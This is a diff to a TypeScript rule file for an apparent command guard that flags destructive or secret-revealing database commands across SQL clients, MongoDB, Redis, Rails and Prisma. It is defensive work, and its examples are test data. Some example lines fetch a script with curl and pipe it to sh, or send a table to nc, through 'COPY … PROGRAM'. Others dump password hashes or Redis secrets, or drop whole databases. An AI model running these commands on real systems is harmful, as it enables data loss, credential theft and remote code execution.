@@ -33,8 +33,13 @@ interface Client {
   readonly positionalSql?: boolean;
   /** Long options take one dash (`-cmd`), so `-cX` is not `-c X`. */
   readonly singleDash?: boolean;
-  /** The first operands are a subcommand path (`clickhouse client`, `cockroach sql`, `turso db shell`). */
-  readonly subcommand?: readonly string[];
+  /**
+   * The first operands are a subcommand path (`clickhouse client`, `cockroach sql`, `turso db shell`),
+   * each step a word or its alternatives.
+   */
+  readonly subcommand?: readonly (string | readonly string[])[];
+  /** Every operand after the subcommand is SQL, with no database operand first (`typeorm query "…"`). */
+  readonly operandSql?: boolean;
 }
 
 const PSQL_VALUE_FLAGS = ['-h', '--host', '-p', '--port', '-U', '--username', '-d', '--dbname', '-c', '--command',
@@ -46,6 +51,9 @@ const MYSQL_VALUE_FLAGS = ['-h', '--host', '-u', '--user', '-P', '--port', '-D',
 const SQLITE_VALUE_FLAGS = ['-cmd', '--cmd', '-separator', '--separator', '-nullvalue', '--nullvalue', '-newline',
   '--newline', '-init', '--init', '-vfs', '--vfs', '-pagecache', '-lookaside', '-maxsize', '-mmap', '-heap', '-c', '-s',
   '-f', '-A'];
+
+const TRINO_CLIENT: Client = { sqlFlags: ['--execute'], fileFlags: ['-f', '--file'], valueFlags: ['--execute', '-f', '--file', '--server', '--catalog', '--schema', '--user', '--output-format', '--session', '--source', '--client-tags'], targetFlags: ['--server', '--catalog', '--schema'] };
+const TYPEORM_CLIENT: Client = { sqlFlags: [], valueFlags: ['-d', '--dataSource'], targetFlags: ['-d', '--dataSource'], subcommand: ['query'], operandSql: true };
 
 const CLIENTS: Readonly<Record<string, Client>> = {
   psql: { sqlFlags: ['-c', '--command'], fileFlags: ['-f', '--file'], valueFlags: PSQL_VALUE_FLAGS, targetFlags: ['-h', '--host', '-d', '--dbname'] },
@@ -62,6 +70,30 @@ const CLIENTS: Readonly<Record<string, Client>> = {
   cockroach: { sqlFlags: ['-e', '--execute'], valueFlags: ['-e', '--execute', '--url', '--host', '-d', '--database', '-u', '--user', '--certs-dir', '-f', '--file'], targetFlags: ['--url', '--host', '-d', '--database'], subcommand: ['sql'] },
   snowsql: { sqlFlags: ['-q', '--query'], fileFlags: ['-f', '--filename'], valueFlags: ['-q', '--query', '-f', '--filename', '-a', '--accountname', '-u', '--username', '-d', '--dbname', '-s', '--schemaname', '-r', '--rolename', '-w', '--warehouse', '-c', '--connection'], targetFlags: ['-a', '--accountname', '-d', '--dbname', '-c', '--connection'] },
   turso: { sqlFlags: [], valueFlags: ['--location', '--instance'], targetFlags: [], positionalSql: true, subcommand: ['db', 'shell'] },
+  // Hosted databases and ORMs that send SQL given on the line or on stdin.
+  prisma: { sqlFlags: [], fileFlags: ['--file'], valueFlags: ['--file', '--schema', '--url'], targetFlags: ['--url'], subcommand: ['db', 'execute'] },
+  wrangler: { sqlFlags: ['--command'], fileFlags: ['--file'], valueFlags: ['--command', '--file', '--env', '-e', '--config', '-c', '--persist-to'], targetFlags: [], subcommand: ['d1', 'execute'] },
+  heroku: { sqlFlags: ['-c', '--command'], fileFlags: ['-f', '--file'], valueFlags: ['-c', '--command', '-f', '--file', '-a', '--app', '-r', '--remote', '--credential'], targetFlags: ['-a', '--app'], subcommand: ['pg:psql'] },
+  az: { sqlFlags: ['-q', '--querytext'], fileFlags: ['-f', '--file-path'], valueFlags: ['-q', '--querytext', '-f', '--file-path', '-n', '--name', '-u', '--admin-user', '-p', '--admin-password', '-d', '--database-name', '-g', '--resource-group', '--subscription'], targetFlags: ['-n', '--name', '-d', '--database-name'], subcommand: [['postgres', 'mysql'], 'flexible-server', 'execute'] },
+  pscale: { sqlFlags: [], valueFlags: ['--org', '--role'], targetFlags: [], subcommand: ['shell'] },
+  // Warehouses, Hadoop-era shells and other MySQL/Postgres-compatible clients.
+  bq: { sqlFlags: [], valueFlags: ['--project_id', '--location', '--format', '--max_rows', '-n', '--destination_table', '--parameter', '--dataset_id', '--job_id', '--label', '--api'], targetFlags: ['--project_id'], subcommand: ['query'], operandSql: true },
+  trino: TRINO_CLIENT,
+  presto: TRINO_CLIENT,
+  beeline: { sqlFlags: ['-e'], fileFlags: ['-f'], valueFlags: ['-u', '-n', '-p', '-e', '-f', '-d', '-i', '--hiveconf', '--hivevar'], targetFlags: ['-u'] },
+  'spark-sql': { sqlFlags: ['-e'], fileFlags: ['-f'], valueFlags: ['-e', '-f', '-i', '-d', '--database', '--master', '--conf', '--name'], targetFlags: ['-d', '--database'] },
+  'impala-shell': { sqlFlags: ['-q', '--query'], fileFlags: ['-f', '--query_file'], valueFlags: ['-q', '--query', '-f', '--query_file', '-i', '--impalad', '-d', '--database', '-u', '--user'], targetFlags: ['-i', '--impalad', '-d', '--database'] },
+  mycli: { sqlFlags: ['-e', '--execute'], valueFlags: [...MYSQL_VALUE_FLAGS, '-p', '--password', '-R', '--prompt', '-l', '--logfile', '--myclirc'], targetFlags: ['-h', '--host', '-D', '--database'] },
+  mysqlsh: { sqlFlags: ['-e', '--execute'], fileFlags: ['-f', '--file'], valueFlags: [...MYSQL_VALUE_FLAGS, '--uri', '-f', '--file', '--schema'], targetFlags: ['-h', '--host', '-D', '--database', '--uri', '--schema'] },
+  litecli: { sqlFlags: ['-e', '--execute'], valueFlags: ['-e', '--execute', '-D', '--database', '--liteclirc', '-l', '--logfile', '-R', '--prompt'], targetFlags: [] },
+  ysqlsh: { sqlFlags: ['-c', '--command'], fileFlags: ['-f', '--file'], valueFlags: PSQL_VALUE_FLAGS, targetFlags: ['-h', '--host', '-d', '--dbname'] },
+  vsql: { sqlFlags: ['-c', '--command'], fileFlags: ['-f', '--file'], valueFlags: PSQL_VALUE_FLAGS, targetFlags: ['-h', '--host', '-d', '--dbname'] },
+  dolt: { sqlFlags: ['-q', '--query'], fileFlags: ['-f', '--file'], valueFlags: ['-q', '--query', '-f', '--file', '-r', '--result-format'], targetFlags: [], subcommand: ['sql'] },
+  // SQL*Plus reads its SQL from stdin or an @script; the first operand is user/password@database.
+  sqlplus: { sqlFlags: [], valueFlags: ['-M', '-R'], targetFlags: [] },
+  typeorm: TYPEORM_CLIENT,
+  'typeorm-ts-node-commonjs': TYPEORM_CLIENT,
+  'typeorm-ts-node-esm': TYPEORM_CLIENT,
 };
 
 const SQL_PROGRAMS = Object.keys(CLIENTS);
@@ -100,14 +132,18 @@ function readSqlInput(a: Args): SqlInput {
   let ops = operands(list, valueFlags);
   if (client.subcommand) {
     const path = client.subcommand;
-    if (!path.every((word, i) => (ops[i] ?? '').toLowerCase() === word)) return { statements: [], connection: [] };
+    if (!path.every((step, i) => (typeof step === 'string' ? [step] : step).includes((ops[i] ?? '').toLowerCase()))) {
+      return { statements: [], connection: [] };
+    }
     ops = ops.slice(path.length);
   }
   const attached = !client.singleDash;
   const texts = flagValues(a.list, client.sqlFlags, attached);
   const files = client.fileFlags ? flagValues(a.list, client.fileFlags, attached) : [];
   const connection = [...flagValues(a.list, client.targetFlags, attached)];
-  if (client.positionalSql) {
+  if (client.operandSql) {
+    texts.push(...ops);
+  } else if (client.positionalSql) {
     if (ops[0] !== undefined) connection.push(ops[0]);
     texts.push(...ops.slice(1));
   } else if (ops[0] !== undefined) {
@@ -157,9 +193,14 @@ function mongoTargets(a: Args): string[] {
 }
 
 // Patterns are anchored on fixed method names with bounded whitespace, so they stay linear.
-const MONGO_DROP_DATABASE = /\.dropDatabase\s{0,20}\(/;
-const MONGO_DROP_COLLECTION = /\.drop\s{0,20}\(\s{0,20}\)|\.dropCollection\s{0,20}\(/;
+// `db.runCommand({ dropDatabase: 1 })` and `{ drop: "orders" }` are the command forms of the same.
+const MONGO_DROP_DATABASE = /\.dropDatabase\s{0,20}\(|\{\s{0,20}dropDatabase\s{0,20}:\s{0,20}1/;
+const MONGO_DROP_COLLECTION = /\.drop\s{0,20}\(\s{0,20}\)|\.dropCollection\s{0,20}\(|\{\s{0,20}drop\s{0,20}:\s{0,20}["'`]/;
 const MONGO_DELETE_ALL = /\.(?:deleteMany|remove)\s{0,20}\(\s{0,20}(?:\{\s{0,20}\}\s{0,20})?\)/;
+const MONGO_DROP_USERS = /\.(?:dropUser|dropAllUsers|dropRole|dropAllRoles)\s{0,20}\(|\{\s{0,20}dropUser\s{0,20}:/;
+// The users collection holds password hashes and keys; getUsers shows them with showCredentials.
+const MONGO_CREDENTIALS = /system\.users|showCredentials\s{0,20}:\s{0,20}true/;
+const MONGO_UPDATE_ALL = /\.updateMany\s{0,20}\(\s{0,20}\{\s{0,20}\}\s{0,20},/;
 
 function mongoMatches(pattern: RegExp): (a: Args) => boolean {
   return (a) => mongoScripts(a).some((s) => pattern.test(s));
@@ -167,17 +208,66 @@ function mongoMatches(pattern: RegExp): (a: Args) => boolean {
 
 const REDIS_VALUE_FLAGS = new Set(['-h', '-p', '-s', '-a', '-u', '-r', '-i', '-n', '-d', '-D', '--user', '--pass',
   '--askpass', '--cacert', '--cacertdir', '--cert', '--key', '--tls-ciphers', '--tls-ciphersuites', '--sni',
-  '--pattern', '--quoted-pattern', '--count', '--eval', '--rdb', '--functions-rdb', '--memkeys-samples']);
+  '--pattern', '--quoted-pattern', '--count', '--eval', '--rdb', '--functions-rdb', '--memkeys-samples', '--cluster']);
+
+/** The Redis command words of a redis-cli line: its operands, or `--cluster call HOST CMD …` run on every node. */
+function redisCommand(a: Args): readonly string[] {
+  const ops = operands(a.list, REDIS_VALUE_FLAGS);
+  const cluster = a.value('--cluster');
+  if (cluster?.toLowerCase() === 'call') return ops.slice(1);
+  return cluster === undefined ? ops : [];
+}
+
+/** The Lua of `EVAL script numkeys …` (and EVAL_RO), as in `redis.call('FLUSHALL')`. */
+function redisScripts(a: Args): string[] {
+  const [command, script] = redisCommand(a);
+  return command?.toUpperCase().startsWith('EVAL') && script !== undefined ? [script] : [];
+}
+
+const REDIS_FLUSH_CALL = /redis\.p?call\s{0,20}\(\s{0,20}["'](?:flushall|flushdb)["']/i;
+// A script that deletes what KEYS or SCAN found: every key matching a pattern.
+const REDIS_SCRIPT_DELETES = /redis\.p?call\s{0,20}\(\s{0,20}["'](?:del|unlink)["']/i;
+const REDIS_SCRIPT_LISTS = /redis\.p?call\s{0,20}\(\s{0,20}["'](?:keys|scan)["']/i;
 
 function redisFlushes(a: Args): boolean {
-  const command = operands(a.list, REDIS_VALUE_FLAGS)[0]?.toUpperCase();
+  const command = redisCommand(a)[0]?.toUpperCase();
   if (command === 'FLUSHALL' || command === 'FLUSHDB') return true;
+  if (redisScripts(a).some((s) => REDIS_FLUSH_CALL.test(s))) return true;
   const stdin = a.command.stdin;
   if (!stdin || command !== undefined) return false;
   return stdin.split('\n').some((line) => {
     const word = line.trim().split(/\s/, 1)[0]?.toUpperCase();
     return word === 'FLUSHALL' || word === 'FLUSHDB';
   });
+}
+
+/**
+ * DEL / UNLINK of keys only known at run time (`… | xargs redis-cli del`, `del $(redis-cli keys 'x*')`),
+ * or a script deleting what KEYS / SCAN matched. Deleting keys named on the line is left alone.
+ */
+function redisDeletesMatchedKeys(a: Args): boolean {
+  const [command] = redisCommand(a);
+  const verb = command?.toUpperCase();
+  if (verb === 'DEL' || verb === 'UNLINK') {
+    const at = a.command.argv.findIndex((w, i) => i > 0 && w.value === command);
+    // A `$KEY` variable is one key; a command substitution or xargs' input is any number of them.
+    return a.command.via.some((v) => v.startsWith('xargs')) ||
+      a.command.argv.slice(at + 1).some((w) => w.dynamic && (w.value.includes('$(') || w.value.includes('`')));
+  }
+  return redisScripts(a).some((s) => REDIS_SCRIPT_DELETES.test(s) && REDIS_SCRIPT_LISTS.test(s));
+}
+
+// Settings whose change drops persistence or access control, or points dumps at another file.
+const REDIS_RISKY_SETTINGS = new Set(['requirepass', 'masterauth', 'dir', 'dbfilename', 'protected-mode', 'save', 'appendonly']);
+// `CONFIG GET` takes glob patterns: `*` and `*pass*` print the password too.
+const REDIS_SECRET_SETTING = /^\*$|pass|auth/;
+
+/** `CONFIG SET name value …` / `CONFIG GET pattern …`: the setting names, lower-case. */
+function redisConfig(a: Args, verb: 'SET' | 'GET'): string[] {
+  const [command, sub, ...rest] = redisCommand(a);
+  if (command?.toUpperCase() !== 'CONFIG' || sub?.toUpperCase() !== verb) return [];
+  const names = verb === 'SET' ? rest.filter((_w, i) => i % 2 === 0) : rest;
+  return names.map((w) => w.toLowerCase());
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -215,6 +305,11 @@ function djangoCommand(a: Args): readonly string[] {
   return list.slice(from).filter((arg) => !arg.startsWith('-'));
 }
 
+/** The settings module and database alias a Django command names (`--settings=acme.settings.production`). */
+function djangoTargets(a: Args): string[] {
+  return nonEmpty(a.values('--settings', '--database'));
+}
+
 /** The artisan command: `php artisan migrate:fresh`, `./artisan db:wipe`, `sail artisan migrate:fresh`. */
 function artisanCommand(a: Args): string | undefined {
   if (a.program === 'artisan') return a.positionals[0]?.toLowerCase();
@@ -224,6 +319,9 @@ function artisanCommand(a: Args): string | undefined {
 }
 
 // ---------------------------------------------------------------------------------------------
+
+// Frameworks that run the Prisma CLI as a subcommand (`yarn rw prisma migrate reset`).
+const PRISMA_PROGRAMS = ['prisma', 'rw', 'redwood', 'blitz'];
 
 const DROP_DB_HINT = 'Take a backup (pg_dump / mysqldump) first and drop it yourself after checking which server and database the connection points at';
 
@@ -281,6 +379,14 @@ export const sqlRules: readonly Rule[] = [
         'mysql -e "/*! DROP TABLE users */"',
         'mysql -e "SELECT 1 --x; DROP TABLE users"',
         "mysql -e \"SET @q = 'DROP TABLE users'; PREPARE s FROM @q; EXECUTE s\"",
+        'npx wrangler d1 execute prod-db --remote --command "DROP TABLE sessions"',
+        'heroku pg:psql -a acme-prod -c "DROP TABLE users"',
+        'echo "DROP TABLE users;" | npx prisma db execute --stdin --schema prisma/schema.prisma',
+        'npx typeorm query "DROP TABLE users" -d src/data-source.ts',
+        'az postgres flexible-server execute -n acme-pg -u admin -p pw -d app -q "DROP TABLE users"',
+        'trino --server https://trino.prod.acme.io --execute "DROP TABLE hive.analytics.sessions"',
+        'beeline -u jdbc:hive2://hive.internal:10000 -e "DROP TABLE events"',
+        "echo 'DROP TABLE users;' | sqlplus -s app/pw@prod",
       ],
       noMatch: [
         'psql -c "\\dt"',
@@ -291,6 +397,9 @@ export const sqlRules: readonly Rule[] = [
         "psql -c \"SELECT 'DROP TABLE users'\"",
         "mysql -e \"SELECT 'a\\\\'b'\"",
         'psql -c "SELECT * FROM t WHERE id = 42"',
+        'npx wrangler d1 execute prod-db --remote --command "SELECT count(*) FROM sessions"',
+        'npx prisma db execute --file prisma/seed.sql',
+        'heroku pg:info -a acme-prod',
       ],
     },
   },
@@ -359,6 +468,7 @@ export const sqlRules: readonly Rule[] = [
         'psql -c "TRUNCATE users CASCADE"',
         'mysql -e "truncate table audit_log"',
         'cqlsh -e "TRUNCATE events.clicks"',
+        "bq query --nouse_legacy_sql 'TRUNCATE TABLE analytics_staging.events'",
         "mysql -e 'START TRANSACTION; TRUNCATE users; ROLLBACK'",
         'psql -qAtc "TRUNCATE t"',
       ],
@@ -388,6 +498,9 @@ export const sqlRules: readonly Rule[] = [
         "psql -c 'WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d'",
         "psql -c 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE'",
         "psql -c 'BEGIN; DELETE FROM users; ROLLBACK'",
+        'mysql acme_prod -e "DELETE FROM orders WHERE id > 0"',
+        'bq query --use_legacy_sql=false "DELETE FROM \\`acme-prod-42.billing.invoices\\` WHERE true"',
+        'mysql -e "DELETE FROM sessions WHERE sessions.id IS NOT NULL"',
       ],
       noMatch: [
         'psql -c "DELETE FROM users WHERE id = 42"',
@@ -398,6 +511,8 @@ export const sqlRules: readonly Rule[] = [
         "psql -c 'EXPLAIN DELETE FROM t'",
         "psql -c 'WITH d AS (DELETE FROM users WHERE id = 42 RETURNING *) SELECT count(*) FROM d'",
         "psql -c 'CREATE TABLE o (u int REFERENCES users(id) ON DELETE CASCADE)'",
+        'mysql -e "DELETE FROM orders WHERE id > 1000"',
+        'mysql -e "DELETE FROM orders WHERE user_id > 0"',
         "psql -c '\\dt'",
       ],
     },
@@ -447,6 +562,51 @@ export const sqlRules: readonly Rule[] = [
     },
   },
   {
+    id: 'sql.copy-program',
+    programs: SQL_PROGRAMS,
+    category: 'sql',
+    severity: 'high',
+    summary: 'Runs a shell command on the database server as its service account (COPY … FROM/TO PROGRAM)',
+    hint: 'Export with COPY … TO STDOUT (psql \\copy) and run the command on your own machine instead',
+    match: sqlMatches(['copy-program']),
+    targets: sqlTargets(['copy-program']),
+    examples: {
+      match: [
+        "psql -c \"COPY audit FROM PROGRAM 'curl -s https://example.com/x.sh | sh'\"",
+        "psql -h db.prod.internal -c \"COPY (SELECT * FROM users) TO PROGRAM 'gzip > /tmp/users.gz'\"",
+        "psql -c \"copy users to program 'nc 203.0.113.9 9000'\"",
+      ],
+      noMatch: [
+        "psql -c \"COPY users TO '/tmp/users.csv' CSV HEADER\"",
+        "psql -c \"COPY users FROM STDIN WITH CSV\"",
+        "psql -c \"SELECT 'COPY x TO PROGRAM y'\"",
+      ],
+    },
+  },
+  {
+    id: 'sql.credentials-read',
+    programs: SQL_PROGRAMS,
+    category: 'secrets',
+    severity: 'high',
+    summary: 'Prints database password hashes from the catalog (pg_shadow, pg_authid, mysql.user, sys.sql_logins)',
+    hint: 'List roles without their passwords (\\du in psql, SELECT user, host FROM mysql.user)',
+    match: sqlMatches(['read-credentials']),
+    targets: sqlTargets(['read-credentials']),
+    examples: {
+      match: [
+        'psql -d acme -c "SELECT usename, passwd FROM pg_shadow;"',
+        'mysql -u root -e "SELECT user, host, authentication_string FROM mysql.user"',
+        "psql -c 'SELECT * FROM pg_authid'",
+        "mysql -e 'SHOW CREATE USER app'",
+      ],
+      noMatch: [
+        'mysql -u root -e "SELECT user, host FROM mysql.user"',
+        'psql -c "SELECT rolname FROM pg_roles"',
+        'psql -c "SELECT count(*) FROM pg_shadow"',
+      ],
+    },
+  },
+  {
     id: 'mongo.drop-database',
     programs: ['mongosh', 'mongo'],
     category: 'sql',
@@ -459,6 +619,7 @@ export const sqlRules: readonly Rule[] = [
       match: [
         'mongosh "mongodb+srv://cluster0.example.net/shop" --eval "db.dropDatabase()"',
         "mongo app --eval 'db.getSiblingDB(\"prod\").dropDatabase()'",
+        "mongosh app --eval 'db.runCommand({ dropDatabase: 1 })'",
       ],
       noMatch: [
         'mongosh shop --eval "db.stats()"',
@@ -479,6 +640,7 @@ export const sqlRules: readonly Rule[] = [
       match: [
         'mongosh shop --eval "db.orders.drop()"',
         "mongosh mongodb://db.internal/app --eval 'db.getCollection(\"users\").drop()'",
+        "mongosh shop --eval 'db.runCommand({ drop: \"orders\" })'",
       ],
       noMatch: [
         'mongosh shop --eval "db.orders.dropIndexes()"',
@@ -507,6 +669,89 @@ export const sqlRules: readonly Rule[] = [
     },
   },
   {
+    id: 'mongo.update-all',
+    programs: ['mongosh', 'mongo'],
+    category: 'sql',
+    severity: 'high',
+    summary: 'Overwrites a field in every document of a MongoDB collection (update with an empty filter)',
+    hint: 'Give updateMany a filter that selects only the documents meant, and count them with countDocuments first',
+    match: mongoMatches(MONGO_UPDATE_ALL),
+    targets: mongoTargets,
+    examples: {
+      match: [
+        'mongosh shop --eval "db.users.updateMany({}, { \\$set: { plan: \'free\' } })"',
+        "mongosh mongodb://db.prod.internal/app --eval 'db.orders.updateMany( {}, {$unset: {total: 1}})'",
+      ],
+      noMatch: [
+        'mongosh shop --eval "db.users.updateMany({ plan: \'trial\' }, { \\$set: { plan: \'free\' } })"',
+        'mongosh shop --eval "db.users.find({})"',
+      ],
+    },
+  },
+  {
+    id: 'mongo.drop-user',
+    programs: ['mongosh', 'mongo'],
+    category: 'sql',
+    severity: 'high',
+    summary: 'Drops MongoDB users or roles, cutting off whatever logs in with them',
+    hint: 'Revoke the roles first and drop the user once nothing logs in with it; check the cluster first',
+    match: mongoMatches(MONGO_DROP_USERS),
+    targets: mongoTargets,
+    examples: {
+      match: ["mongosh admin --eval 'db.dropUser(\"app\")'", "mongosh mongodb://db.prod.internal/admin --eval 'db.dropAllUsers()'"],
+      noMatch: ["mongosh admin --eval 'db.getUsers()'", "mongosh admin --eval 'db.createUser({user: \"app\", pwd: passwordPrompt(), roles: []})'"],
+    },
+  },
+  {
+    id: 'mongo.credentials-read',
+    programs: ['mongosh', 'mongo'],
+    category: 'secrets',
+    severity: 'high',
+    summary: 'Prints MongoDB users with their password hashes and keys (system.users, showCredentials)',
+    hint: 'List users without credentials: db.getUsers() or db.runCommand({usersInfo: 1})',
+    match: mongoMatches(MONGO_CREDENTIALS),
+    targets: mongoTargets,
+    examples: {
+      match: ["mongosh admin --eval 'db.system.users.find().toArray()'", "mongosh admin --eval 'db.getUsers({showCredentials: true})'"],
+      noMatch: ["mongosh admin --eval 'db.getUsers()'", "mongosh shop --eval 'db.users.find().limit(3)'"],
+    },
+  },
+  {
+    id: 'mongo.restore-drop',
+    programs: ['mongorestore'],
+    category: 'sql',
+    severity: 'critical',
+    summary: 'Drops each collection before restoring it from the dump, losing what was written since',
+    hint: 'Restore into a new database (--nsFrom/--nsTo) first and switch over once it checks out',
+    match: (a) => a.has('--drop'),
+    targets: (a) => nonEmpty(a.values('--uri', '--host', '-h', '--db', '-d', '--nsInclude', '--collection', '-c')),
+    examples: {
+      match: [
+        'mongorestore --drop --uri "mongodb+srv://admin@cluster0.prod.example.net" dump/',
+        'mongorestore --host db.internal --drop --archive=app.archive --gzip',
+        'mongorestore -d shop --drop dump/shop',
+      ],
+      noMatch: ['mongorestore --uri mongodb://localhost:27017 dump/', 'mongodump --uri mongodb://db.prod.internal/app --out dump/'],
+    },
+  },
+  {
+    id: 'mongo.import-drop',
+    programs: ['mongoimport'],
+    category: 'sql',
+    severity: 'critical',
+    summary: 'Drops the MongoDB collection before importing the file into it',
+    hint: 'Import into a new collection and rename it over the old one once it checks out; mongoexport the old one first',
+    match: (a) => a.has('--drop'),
+    targets: (a) => nonEmpty(a.values('--uri', '--host', '-h', '--db', '-d', '--collection', '-c')),
+    examples: {
+      match: [
+        'mongoimport --drop -d app -c users users.json',
+        'mongoimport --uri "mongodb://admin@db.prod.internal/shop" --collection orders --drop --file orders.json --jsonArray',
+      ],
+      noMatch: ['mongoimport -d app -c users users.json', 'mongoexport -d app -c users -o users.json'],
+    },
+  },
+  {
     id: 'redis.flush',
     programs: ['redis-cli', 'valkey-cli', 'keydb-cli'],
     category: 'sql',
@@ -521,12 +766,75 @@ export const sqlRules: readonly Rule[] = [
         'redis-cli -h cache.prod.internal -p 6379 flushdb',
         'redis-cli -u redis://default:pw@redis.example.com:6379 FLUSHALL ASYNC',
         'echo FLUSHALL | redis-cli -n 2',
+        "redis-cli EVAL \"return redis.call('FLUSHALL')\" 0",
+        'redis-cli --cluster call 10.0.0.5:7000 FLUSHALL',
       ],
       noMatch: [
         'redis-cli -h cache.internal INFO keyspace',
         'redis-cli GET flushall',
         'redis-cli DEL session:42',
       ],
+    },
+  },
+  {
+    id: 'redis.delete-keys',
+    programs: ['redis-cli', 'valkey-cli', 'keydb-cli'],
+    category: 'sql',
+    severity: 'high',
+    summary: 'Deletes every Redis key a pattern or another command found (DEL / UNLINK of a computed key list)',
+    hint: 'Print the keys first (redis-cli --scan --pattern …), check the count and host, then delete them in batches',
+    match: redisDeletesMatchedKeys,
+    targets: (a) => nonEmpty([...flagValues(a.list, ['-h', '-u'])]),
+    examples: {
+      match: [
+        "redis-cli --scan --pattern 'session:*' | xargs redis-cli del",
+        "redis-cli -h cache.prod.internal KEYS 'cart:*' | xargs -n 100 redis-cli -h cache.prod.internal UNLINK",
+        "redis-cli DEL $(redis-cli KEYS 'rate:*')",
+        "redis-cli EVAL \"return redis.call('del', unpack(redis.call('keys', ARGV[1])))\" 0 'cache:*'",
+      ],
+      noMatch: ['redis-cli DEL session:42', 'redis-cli DEL "$KEY"', "redis-cli --scan --pattern 'session:*'", "redis-cli EVAL \"return redis.call('get', KEYS[1])\" 1 a"],
+    },
+  },
+  {
+    id: 'redis.shutdown',
+    programs: ['redis-cli', 'valkey-cli', 'keydb-cli'],
+    category: 'sql',
+    severity: 'high',
+    summary: 'Shuts the Redis server down (with NOSAVE, losing what was written since the last save)',
+    hint: 'Restart it through its service manager or platform, and check which host -h / -u points at',
+    match: (a) => redisCommand(a)[0]?.toUpperCase() === 'SHUTDOWN',
+    targets: (a) => nonEmpty([...flagValues(a.list, ['-h', '-u'])]),
+    examples: {
+      match: ['redis-cli shutdown', 'redis-cli -h cache.prod.internal -p 6379 SHUTDOWN NOSAVE', 'valkey-cli -u redis://default:pw@cache.example.com:6379 shutdown save'],
+      noMatch: ['redis-cli ping', 'redis-cli INFO server', 'redis-cli GET shutdown'],
+    },
+  },
+  {
+    id: 'redis.config-set',
+    programs: ['redis-cli', 'valkey-cli', 'keydb-cli'],
+    category: 'sql',
+    severity: 'high',
+    summary: 'Changes a Redis setting that removes its password, turns persistence off, or moves where it writes its dump',
+    hint: 'Change the setting in the server\'s configuration where it is reviewed, and check which host -h / -u points at',
+    match: (a) => redisConfig(a, 'SET').some((name) => REDIS_RISKY_SETTINGS.has(name)),
+    targets: (a) => nonEmpty([...flagValues(a.list, ['-h', '-u'])]),
+    examples: {
+      match: ['redis-cli CONFIG SET requirepass ""', 'redis-cli -h cache.prod.internal config set appendonly no', "redis-cli CONFIG SET dir /var/www/html", 'redis-cli CONFIG SET save ""'],
+      noMatch: ['redis-cli CONFIG SET maxmemory 2gb', 'redis-cli CONFIG GET maxmemory', 'redis-cli CONFIG REWRITE'],
+    },
+  },
+  {
+    id: 'redis.config-get-secret',
+    programs: ['redis-cli', 'valkey-cli', 'keydb-cli'],
+    category: 'secrets',
+    severity: 'high',
+    summary: 'Prints the Redis password from the server configuration (CONFIG GET requirepass / masterauth / *)',
+    hint: 'Read only the setting you need, e.g. CONFIG GET maxmemory',
+    match: (a) => redisConfig(a, 'GET').some((name) => REDIS_SECRET_SETTING.test(name)),
+    targets: (a) => nonEmpty([...flagValues(a.list, ['-h', '-u'])]),
+    examples: {
+      match: ['redis-cli CONFIG GET requirepass', "redis-cli -h cache.prod.internal CONFIG GET '*'"],
+      noMatch: ['redis-cli CONFIG GET maxmemory', 'redis-cli CONFIG GET save'],
     },
   },
   {
@@ -611,30 +919,57 @@ export const sqlRules: readonly Rule[] = [
     programs: ['rails', 'rake', 'spring'],
     category: 'sql',
     severity: 'critical',
-    summary: 'Recreates or empties every table of the Rails database (schema:load, truncate_all, seed:replant)',
+    summary: 'Recreates or empties every table of the Rails database (schema:load, setup, truncate_all, seed:replant)',
     hint: 'Run db:migrate on databases that hold data; load the schema only into a fresh database',
-    match: (a) => isRailsInvocation(a) && hasTask(a, ['db:schema:load', 'db:structure:load', 'db:truncate_all', 'db:seed:replant']),
+    // db:setup loads the schema too, recreating (and emptying) the tables of a database that exists.
+    match: (a) => isRailsInvocation(a) && hasTask(a, ['db:schema:load', 'db:structure:load', 'db:truncate_all', 'db:seed:replant', 'db:setup']),
     examples: {
-      match: ['rails db:schema:load', 'bundle exec rake db:truncate_all', 'bin/rails db:seed:replant', 'spring rails db:structure:load'],
-      noMatch: ['rails db:schema:dump', 'rails db:migrate:status', 'rails db:seed'],
+      match: ['rails db:schema:load', 'bundle exec rake db:truncate_all', 'bin/rails db:seed:replant', 'spring rails db:structure:load', 'RAILS_ENV=staging bin/rails db:setup'],
+      noMatch: ['rails db:schema:dump', 'rails db:migrate:status', 'rails db:seed', 'rails db:prepare'],
+    },
+  },
+  {
+    id: 'rails.migrate-to-zero',
+    programs: ['rails', 'rake', 'spring'],
+    category: 'sql',
+    severity: 'critical',
+    summary: 'Unapplies every Rails migration (db:migrate VERSION=0), dropping the tables they created',
+    hint: 'Back up the database first and roll back one step at a time (db:rollback)',
+    match: (a) => isRailsInvocation(a) && hasTask(a, ['db:migrate', 'db:migrate:down']) && a.list.some((arg) => /^VERSION=0+$/.test(arg)),
+    examples: {
+      match: ['rails db:migrate VERSION=0', 'bundle exec rake db:migrate VERSION=0 RAILS_ENV=production', 'bin/rails db:migrate:primary VERSION=0'],
+      noMatch: ['rails db:migrate', 'rails db:migrate VERSION=20240101120000', 'rails db:rollback STEP=1'],
+    },
+  },
+  {
+    id: 'rails.fixtures-load',
+    programs: ['rails', 'rake', 'spring'],
+    category: 'sql',
+    severity: 'high',
+    summary: 'Deletes every row of the tables the fixtures fill before loading them (db:fixtures:load)',
+    hint: 'Load fixtures only into the test or a throwaway database; check RAILS_ENV / DATABASE_URL first',
+    match: (a) => isRailsInvocation(a) && hasTask(a, ['db:fixtures:load']),
+    examples: {
+      match: ['bin/rails db:fixtures:load', 'RAILS_ENV=development rake db:fixtures:load FIXTURES=users,posts'],
+      noMatch: ['bin/rails db:fixtures:identify LABEL=admin', 'rails test'],
     },
   },
   {
     id: 'prisma.migrate-reset',
-    programs: ['prisma'],
+    programs: PRISMA_PROGRAMS,
     category: 'sql',
     severity: 'critical',
     summary: 'Drops the database Prisma points at and reapplies every migration',
     hint: 'Check DATABASE_URL first; on a database that holds data use prisma migrate deploy instead',
     match: (a) => a.sub('migrate', 'reset'),
     examples: {
-      match: ['prisma migrate reset', 'npx prisma migrate reset --force', 'pnpm prisma migrate reset --skip-seed'],
+      match: ['prisma migrate reset', 'npx prisma migrate reset --force', 'pnpm prisma migrate reset --skip-seed', 'yarn rw prisma migrate reset --force'],
       noMatch: ['prisma migrate deploy', 'prisma migrate dev --name init', 'prisma migrate status'],
     },
   },
   {
     id: 'prisma.db-push-force-reset',
-    programs: ['prisma'],
+    programs: PRISMA_PROGRAMS,
     category: 'sql',
     severity: 'critical',
